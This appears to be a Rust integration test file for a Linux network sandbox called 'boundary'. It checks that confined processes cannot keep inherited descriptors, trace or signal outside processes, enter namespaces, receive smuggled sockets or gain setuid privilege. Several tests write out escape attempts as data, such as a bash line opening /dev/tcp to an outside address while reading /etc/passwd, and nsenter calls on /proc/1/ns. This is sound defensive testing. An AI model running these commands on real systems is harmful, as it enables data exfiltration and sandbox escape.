//! Section A, the half without an address: descriptors, processes, privileges, boundary itself.

use std::os::fd::AsRawFd as _;
use std::os::unix::net::UnixListener;

use nix::sys::signal::{Signal, kill};

use super::people::pass_small_numbers;
use super::{ALLOW, DENIED, attack};
use crate::world::needs::{cgroup2, needs};
use crate::world::{World, install, jail};

#[test]
fn a13_inherited_descriptors_are_closed() {
    needs!(root, bpf, bash);
    let world = World::new();
    let script = "exec 3<>/dev/tcp/203.0.113.10/80 7</etc/passwd; exec \"$@\"";
    let inner = world.boundary(&ALLOW, &[world.attack(), "fds"]);
    let out = inner.under(&["bash", "-c", script, "--"]).output();
    out.succeeded();
    out.expect(out.finding()["found"] == serde_json::json!({}), "none above 2 is open");
}

#[test]
fn a13_standard_input_that_is_a_connection_is_refused() {
    needs!(root, bpf, bash);
    let world = World::new();
    let script = "exec 0<>/dev/tcp/203.0.113.10/80; exec \"$@\"";
    let inner = world.boundary(&ALLOW, &["sh", "-c", "echo leaked >&0"]);
    let out = inner.under(&["bash", "-c", script, "--"]).output();
    out.exits(125);
    out.expect(out.requests.is_empty(), "nothing is sent over it");
}

#[test]
fn a13_standard_input_that_is_a_directory_is_refused() {
    needs!(root, bpf);
    let world = World::new();
    let inner = world.boundary(&ALLOW, &["true"]);
    let out = inner.under(&["sh", "-c", "exec \"$@\" </proc", "--"]).output();
    out.exits(125).complains("descriptor 0 is a directory");
}

#[test]
fn a29_h12_processes_outside_cannot_be_traced_or_signalled() {
    needs!(root, bpf);
    let world = World::new();
    pass_small_numbers(&world);
    let victim = world.bare(&["sleep", "1000"]).start();
    let pid = victim.pid().to_string();
    for call in ["ptrace", "kill", "pidfd"] {
        if jail() == "landjail" && call == "pidfd" {
            // Without a process namespace everybody has a handle, which is good for nothing.
            continue;
        }
        let out = attack(&world, &["syscall", call, &pid]);
        out.refused(&["EPERM", "EACCES", "ESRCH", "EINVAL"]);
    }
    let keeper = "for pid in $(cat /proc/[0-9]*/stat 2>/dev/null | cut -d' ' -f1); do \
                  kill -0 $pid 2>/dev/null && cat /proc/$pid/comm; done; true";
    let out = world.boundary(&ALLOW, &["sh", "-c", keeper]).output();
    // Before Linux 6.12 two have a number for root, and a signal for them: one is deaf to all, and with
    // the other the session ends.
    let is_scoped = crate::kernel::has_scopes() || jail() == "landjail";
    let may_be = |name: &str| !is_scoped && ["boundary-init", "boundary-usher"].contains(&name);
    let own = out.stdout.lines().find(|name| name.starts_with("boundary") && !may_be(name));
    out.expect(own.is_none(), "boundary itself cannot be signalled");
    out.says("sh");
    victim.kill();
}

#[test]
fn a12_a16_a29_h01_calls_that_reach_round_the_walls_are_refused() {
    needs!(root, bpf);
    let world = World::new();
    for call in [
        "bpf",
        "io-uring",
        "io-uring-enter",
        "io-uring-register",
        "unshare-net",
        "unshare-user",
        "keyctl",
        "request-key",
        "vhost-owner",
    ] {
        for out in super::as_both(&world, &["syscall", call]) {
            out.refused(&["EPERM", "EACCES", "ENOSYS"]).nothing_left();
        }
    }
}

#[test]
fn a13_a_socket_that_somebody_outside_hands_out_is_not_to_be_had() {
    needs!(root, bpf);
    let world = World::new();
    let path = world.folder().join("giver");
    let place = path.clone();
    let (giver, socket) = world.host().run(|| {
        let giver = UnixListener::bind(place).expect("the folder is ours");
        let socket = std::net::UdpSocket::bind("0.0.0.0:0").expect("any port");
        #[expect(clippy::disallowed_methods, reason = "the accomplice outside the jail")]
        socket.connect((DENIED[0], 9999)).expect("there is a route");
        (giver, socket)
    });
    let everybody = std::os::unix::fs::PermissionsExt::from_mode(0o777);
    std::fs::set_permissions(&path, everybody).expect("it is ours");
    std::thread::spawn(move || {
        use nix::sys::socket::{ControlMessage, MsgFlags, sendmsg};
        let fds = [socket.as_raw_fd()];
        for stream in giver.incoming().flatten() {
            let rights = [ControlMessage::ScmRights(&fds)];
            let byte = [std::io::IoSlice::new(b"x")];
            sendmsg::<()>(stream.as_raw_fd(), &byte, &rights, MsgFlags::empty(), None)
                .expect("the client waits for it");
        }
    });
    let words = ["receive", path.to_str().expect("our own name")];
    world.bare(&[&[world.attack()], &words[..]].concat()).output().succeeded().reached(DENIED[0]);
    for out in super::as_both(&world, &words) {
        out.refused(&["EPERM", "EACCES", "ENOENT", "ECONNREFUSED"]).nothing_left();
    }
}

#[test]
fn a14_a_child_of_the_sessions_cgroup_is_governed_too() {
    needs!(root, ebpf);
    let world = World::new();
    let script = "echo ready; read line; exec \"$@\"";
    for (words, says) in [
        (["tcp", DENIED[0], "80", "http:denied.test"], "403"),
        (["udp", "sendto", DENIED[0], "9999"], "EPERM"),
    ] {
        let gate = world.folder().join("tmp").join(format!("gate-{}", words[0]));
        nix::unistd::mkfifo(&gate, nix::sys::stat::Mode::S_IRWXU).expect("the folder is ours");
        let gate = gate.to_str().expect("our own name");
        let script = format!("exec <{gate}; {script}");
        let command = [&["sh", "-c", &script, "--", world.attack()], &words[..]].concat();
        let session = world.boundary(&ALLOW, &command).start();
        let opened = std::fs::File::options().write(true).open(gate).expect("the command reads");
        session.wait_for("ready");
        let child = move_into_a_child(&world);
        std::io::Write::write_all(&mut &opened, b"go\n").expect("the command reads");
        session.finish().says(says).nothing_left();
        // Whoever ends the session removes what is below it.
        assert!(!child.exists(), "the child cgroup is gone");
    }
}

/// Makes a cgroup below that of the world's one session and moves the command there.
fn move_into_a_child(world: &World) -> std::path::PathBuf {
    let command = world.process("dash").pid;
    let text = std::fs::read_to_string(format!("/proc/{command}/cgroup")).expect("it is there");
    let place = text.lines().find_map(|line| line.strip_prefix("0::/")).expect("a cgroup2");
    let child = std::path::Path::new(&cgroup2().expect("needed")).join(place).join("child");
    std::fs::create_dir(&child).expect("root may");
    std::fs::write(child.join("cgroup.procs"), command.to_string()).expect("root may");
    child
}

#[test]
fn a16_h07_no_other_namespace_can_be_made_or_entered() {
    needs!(root, bpf);
    let world = World::new();
    for call in ["unshare-net", "unshare-user", "clone-net", "clone3", "setns"] {
        for out in super::as_both(&world, &["syscall", call]) {
            out.refused(&["EPERM", "EACCES", "ENOSYS"]);
        }
    }
    for file in ["/proc/1/ns/net", "/proc/1/ns/user"] {
        let script = format!("nsenter --net={file} true || nsenter --user={file} true");
        let out = world.boundary(&ALLOW, &["sh", "-c", &script]).through_sudo().output();
        out.expect(out.status.is_some_and(|status| !status.success()), "it fails");
    }
}

#[test]
fn a17_a_name_exempts_nobody() {
    needs!(root, bpf);
    let world = World::new();
    let own = world.folder().join("tmp/boundary");
    install(world.attack().as_ref(), &own);
    let own = own.to_str().expect("our own name");
    let out = world.boundary(&ALLOW, &[own, "udp", "sendto", DENIED[0], "9999"]).output();
    out.refused(&["EPERM"]).nothing_left();
    let out = world.boundary(&ALLOW, &[own, "tcp", DENIED[0], "80", "http:denied.test"]).output();
    out.succeeded().says("403").nothing_left();
}

#[test]
fn a29_no_file_makes_its_user_more_than_he_is() {
    needs!(root, bpf);
    let world = World::new();
    let own = world.folder().join("setuid");
    install("/usr/bin/id".as_ref(), &own);
    std::fs::set_permissions(&own, std::os::unix::fs::PermissionsExt::from_mode(0o4755))
        .expect("it is ours");
    let own = own.to_str().expect("our own name");
    let out = world.boundary(&ALLOW, &[own, "-u"]).through_sudo().output();
    out.exits(0).expect(out.stdout.trim() != "0", "the bit counts for nothing");
}

#[test]
fn a30_another_session_has_no_use_for_this_ones_proxy() {
    needs!(root, bpf);
    let world = World::new();
    let options = ["--proxy-port", "18080", "--allow", "domain=allowed.test"];
    let session = world.boundary(&options, &[world.attack(), "signals", "1"]).start();
    session.wait_for("ready");
    for address in ["127.0.0.1", "::1"] {
        let words = [world.attack(), "tcp", address, "18080", "http:allowed.test"];
        let out = world.boundary(&["--allow", "domain=other.test"], &words).output();
        out.nothing_left().expect(!out.stdout.contains("this is"), "nothing is served");
    }
    kill(world.process("attack").pid, Signal::SIGUSR1).expect("it is there");
    session.finish().exits(0);
}
